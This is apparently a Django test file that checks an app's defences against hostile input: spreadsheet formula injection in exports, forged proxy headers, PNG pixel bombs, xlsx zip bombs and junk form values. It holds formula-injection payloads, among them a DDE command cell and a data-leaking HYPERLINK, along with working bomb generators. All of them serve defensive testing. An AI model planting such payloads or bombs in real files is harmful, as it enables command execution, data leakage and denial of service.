"""Hostile and unlucky input (issue 12): formulas in exports, the address behind the proxy, bombs, junk."""

import datetime
import io
import os
import re
import struct
import time
import zipfile
import zlib
from io import StringIO
from pathlib import Path

import pytest
from axes.models import AccessFailureLog
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.worksheet._read_only import ReadOnlyWorksheet
from PIL import Image

from projects.ledger import ledger_read
from projects.models import Issue, Photo, Project, Visit
from projects.photos import MAX_PHOTOS, photo_process, photo_save
from projects.querysets import today
from tests import ledger_book
from tests.ledger_book import read_back
from tests.test_photos import jpeg
from tests.test_visits import new_url, visit_post
from tests.zone import PASSWORD

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://x/?"&A2,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
]


def _sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
        ]


def test_user_text_that_looks_like_a_formula_is_exported_as_text_and_reimports_unchanged(zone, login):
    Project.objects.filter(pk=zone.project_a.pk).update(
        name=FORMULAS[0], content=FORMULAS[1], industry=FORMULAS[2]
    )
    zone.enterprise.name = FORMULAS[4]
    zone.enterprise.save()
    Issue.objects.create(
        project=zone.project_a,
        category="permits",
        description=FORMULAS[3],
        resolution=FORMULAS[0],
        raised_at=timezone.now(),
    )
    client = login(zone.coordinator)

    content = b"".join(client.get("/projects/export.xlsx").streaming_content)
    assert all("<f>" not in xml for xml in _sheet_xml(content))  # not one formula in any sheet
    cells = {
        cell.value: cell
        for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in (FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[4]):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    plan = ledger_read(io.BytesIO(content))
    assert plan.errors == [] and plan.changes == []  # the export re-imports unchanged

    content = b"".join(client.get("/issues/export.xlsx").streaming_content)
    assert all("<f>" not in xml for xml in _sheet_xml(content))
    values = {
        cell.value for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows() for cell in row
    }
    assert {FORMULAS[3], FORMULAS[0]} <= values


# --- The client address behind the proxy ------------------------------------------------------------


def _login(username, password, forwarded, client=None):
    return (client or Client()).post(
        "/login/",
        {"username": username, "password": password},
        REMOTE_ADDR="127.0.0.1",  # every request arrives from the proxy
        HTTP_X_FORWARDED_FOR=forwarded,
    )


@pytest.mark.parametrize(
    ("count", "attacker", "attacker_again", "other"),
    [
        # One proxy (nginx appends the client): the right-most entry; the rest is the client's own.
        (1, "203.0.113.9", "6.6.6.6, 203.0.113.9", "198.51.100.7"),
        # Two proxies: the second from the right.
        (2, "203.0.113.9, 10.0.0.2", "1.1.1.1, 203.0.113.9, 10.0.0.2", "198.51.100.7, 10.0.0.2"),
    ],
)
def test_behind_the_proxy_the_attacker_is_locked_and_another_client_is_not(
    zone, settings, count, attacker, attacker_again, other
):
    settings.BEHIND_PROXY = True
    settings.PROXY_COUNT = count
    client = Client()
    for _attempt in range(settings.AXES_FAILURE_LIMIT):
        response = _login("grid", "wrong", attacker, client)
    assert response.status_code == 429
    assert set(AccessFailureLog.objects.values_list("ip_address", flat=True)) == {"203.0.113.9"}
    # A forged left part does not give the attacker a new address.
    assert _login("grid", PASSWORD, attacker_again).status_code == 429
    # The real user, from another address through the same proxy, logs in.
    response = _login("grid", PASSWORD, other)
    assert response.status_code == 302 and response["Location"] == "/"


def test_without_the_proxy_setting_a_forged_header_is_ignored(zone, settings):
    settings.BEHIND_PROXY = False
    settings.PROXY_COUNT = 1
    for _attempt in range(settings.AXES_FAILURE_LIMIT):
        _login("grid", "wrong", "203.0.113.9")
    assert set(AccessFailureLog.objects.values_list("ip_address", flat=True)) == {"127.0.0.1"}
    assert settings.AXES_CLIENT_IP_CALLABLE == "newzone.client_ip.client_ip"


# --- Pixel bombs ----------------------------------------------------------------------------------


def png_bomb(width=10_900, height=10_900):
    """A real PNG of width×height grey pixels that is only ~120 KB (zeros compress 1000:1)."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # the filter byte, then one byte per pixel
    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _media_files():
    root = Path(settings.MEDIA_ROOT)
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def test_a_pixel_bomb_is_refused_before_it_is_decoded(zone, login):
    bomb = png_bomb()
    assert len(bomb) < 500_000
    data = visit_post(photos=[SimpleUploadedFile("bomb.png", bomb, content_type="image/png")])
    response = login(zone.grid).post(new_url(zone.project_a), data)
    assert response.status_code == 200
    assert "bomb.png" in response.text and "40" in response.text
    assert not Visit.objects.exists() and not Photo.objects.exists()
    assert _media_files() == []


def test_at_most_ten_photos_in_one_post(zone, login):
    photos = [jpeg(64, 48, name=f"p{n}.jpg") for n in range(MAX_PHOTOS + 1)]
    response = login(zone.grid).post(new_url(zone.project_a), visit_post(photos=photos))
    assert response.status_code == 200
    assert "11" in response.text and not Visit.objects.exists()
    assert _media_files() == []
    photos = [jpeg(64, 48, name=f"p{n}.jpg") for n in range(MAX_PHOTOS)]
    response = login(zone.grid).post(new_url(zone.project_a), visit_post(photos=photos))
    assert response.status_code == 302 and Photo.objects.count() == MAX_PHOTOS


def test_a_large_photo_is_decoded_reduced_and_still_comes_out_upright(zone):
    big = jpeg(6000, 4000, orientation=6)  # 24 Mpx, rotated 90° by its EXIF tag
    content, _when = photo_process(big)
    with Image.open(io.BytesIO(content)) as image:
        assert image.size == (1067, 1600)  # upright: portrait, the long side at MAX_SIDE


def test_files_of_failed_uploads_and_old_previews_are_purged(zone):
    storage = default_storage
    orphan = storage.save("photos/2026/01/orphan.jpg", ContentFile(b"x"))
    fresh_orphan = storage.save("photos/2026/01/fresh.jpg", ContentFile(b"x"))
    old_preview = storage.save("ledger-imports/old.xlsx", ContentFile(b"x"))
    new_preview = storage.save("ledger-imports/new.xlsx", ContentFile(b"x"))
    visit = Visit.objects.create(
        project=zone.project_a, date=today(), kind="routine", summary="s", recorded_by=zone.grid.staff
    )
    kept = photo_save(file=jpeg(64, 48), by=zone.grid, visit=visit)
    day_ago = time.time() - 86_400 * 2
    for name in (orphan, old_preview, kept.image.name):
        os.utime(storage.path(name), (day_ago, day_ago))
    out = StringIO()
    call_command("purge_files", stdout=out)
    assert not storage.exists(orphan) and not storage.exists(old_preview)
    assert storage.exists(fresh_orphan) and storage.exists(new_preview) and storage.exists(kept.image.name)
    assert "2 file(s)" in out.getvalue()


# --- Excel zip bombs and oversized ledgers ------------------------------------------------------


def _rewrite(book, change):
    """A copy of the .xlsx `book` (BytesIO) with each member's bytes passed through change(name, data)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(book) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for info in source.infolist():
            data = source.read(info.filename)
            replaced = change(info.filename, data)
            if callable(replaced):  # a writer that streams a large member
                with target.open(info.filename, "w", force_zip64=True) as handle:
                    replaced(handle)
            else:
                target.writestr(info.filename, replaced)
    out.seek(0)
    out.name = "ledger.xlsx"
    return out


def xlsx_bomb(megabytes=120):
    """A real ledger whose listings sheet carries `megabytes` of whitespace: ~0.1 MB on the wire."""
    book = ledger_book.build([ledger_book.listing()])

    def change(name, data):
        if name != "xl/worksheets/sheet2.xml":  # the listings sheet (sheet1 is the cover)
            return data
        head, tail = data.split(b"</sheetData>", 1)

        def write(handle):
            handle.write(head)
            block = b" " * (1024 * 1024)
            for _ in range(megabytes):
                handle.write(block)
            handle.write(b"</sheetData>" + tail)

        return write

    return _rewrite(book, change)


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(zone, login):
    bomb = xlsx_bomb()
    assert len(bomb.getvalue()) < 1_000_000
    plan = ledger_read(bomb)
    assert not plan.ok
    (problem,) = plan.problems
    assert "解压后为 120" in problem.message  # the part, its unpacked size and the limit
    bomb.seek(0)
    response = login(zone.coordinator).post("/ledger/import/", {"file": bomb})
    assert response.status_code == 200
    assert "解压后为 120" in response.text
    assert not Project.objects.filter(code="L-001").exists()


def test_a_ledger_declaring_more_rows_than_the_limit_is_refused_before_reading(zone, monkeypatch):
    book = ledger_book.build([ledger_book.listing()])

    def change(name, data):
        return re.sub(rb'<dimension ref="A1:([A-Z]+)2"', rb'<dimension ref="A1:\g<1>200001"', data)

    oversized = _rewrite(book, change)
    read = []
    real = ReadOnlyWorksheet.iter_rows

    def counting(self, *args, min_row=None, **kwargs):
        for row in real(self, *args, min_row=min_row, **kwargs):
            if (min_row or 1) > 1:  # below the header: a data row
                read.append(row)
            yield row

    monkeypatch.setattr(ReadOnlyWorksheet, "iter_rows", counting)
    plan = ledger_read(oversized)
    assert read == []  # not one row parsed
    messages = [problem.message for problem in plan.problems]
    assert any("200,000" in message and "100,000" in message for message in messages), messages


# --- Smaller: junk in hidden and admin fields -------------------------------------------------------


@pytest.mark.parametrize("value", ["abc", "1.5", "-", "9" * 30])
def test_junk_in_an_admin_autocomplete_field_is_a_form_error(zone, login, value):
    response = login(zone.admin).post(
        "/admin/projects/listing/add/",
        {"project": value, "year": zone.year, "level": "province", "kind": "new", "planned_investment": "1"},
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["project"]


@pytest.mark.parametrize("value", ["sNaN", "NaN", "Infinity", "-inf"])
def test_a_round_row_with_a_not_a_number_original_is_refused(value):
    from projects.forms.reports import RoundRowForm

    form = RoundRowForm(data={"project": "1", "amount": "10", "original_amount": value})
    assert not form.is_valid() and "original_amount" in form.errors


def test_a_request_body_above_the_cap_is_refused_before_it_is_read(zone, login):
    client = login(zone.grid)
    response = client.generic(
        "POST",
        new_url(zone.project_a),
        b"x",
        content_type="application/octet-stream",
        CONTENT_LENGTH=str(settings.REQUEST_MAX_BYTES + 1),
    )
    assert response.status_code == 413
    assert str(settings.REQUEST_MAX_BYTES // (1024 * 1024)) in response.content.decode()


@pytest.mark.parametrize("day", ["0001-01-01", "1999-12-31"])
def test_a_visit_before_2000_is_refused_with_a_message(zone, login, day):
    response = login(zone.grid).post(new_url(zone.project_a), visit_post(date=day))
    assert response.status_code == 200
    assert "2000-01-01" in str(response.context["form"].errors["date"])
    assert not Visit.objects.exists()


def test_every_write_path_bounds_the_dates_that_happened(zone):
    from django.core.exceptions import ValidationError

    from projects.services.progress import progress_note_add

    with pytest.raises(ValidationError) as error:
        progress_note_add(project=zone.project_a, by=zone.grid, date=datetime.date(1, 1, 1), text="古代")
    assert "date" in error.value.message_dict
    project = Project.objects.get(pk=zone.project_a.pk)
    project.actual_start = today() + datetime.timedelta(days=400)
    with pytest.raises(ValidationError) as error:
        project.full_clean()
    assert "actual_start" in error.value.message_dict


def test_an_invalid_filter_value_lists_nothing_and_says_so(zone, login):
    client = login(zone.grid_b)  # park B only: project_a is not one of its choices
    hidden = f"project={zone.project_a.pk}"
    for url in ("/issues/", "/visits/"):
        page = client.get(f"{url}?{hidden}")
        assert page.status_code == 200
        assert "alert-warning" in page.text, url
    page = client.get("/projects/?park=999999")
    assert page.status_code == 200 and "alert-warning" in page.text
    assert list(page.context["page"].object_list) == []
    # The export of the same filter is empty too, not every visible row.
    content = b"".join(client.get("/projects/export.xlsx?park=999999").streaming_content)
    assert len(read_back(content)["项目清单"]) == 1  # the headers only
    content = b"".join(client.get(f"/issues/export.xlsx?{hidden}").streaming_content)
    assert len(read_back(content)["问题诉求"]) == 1
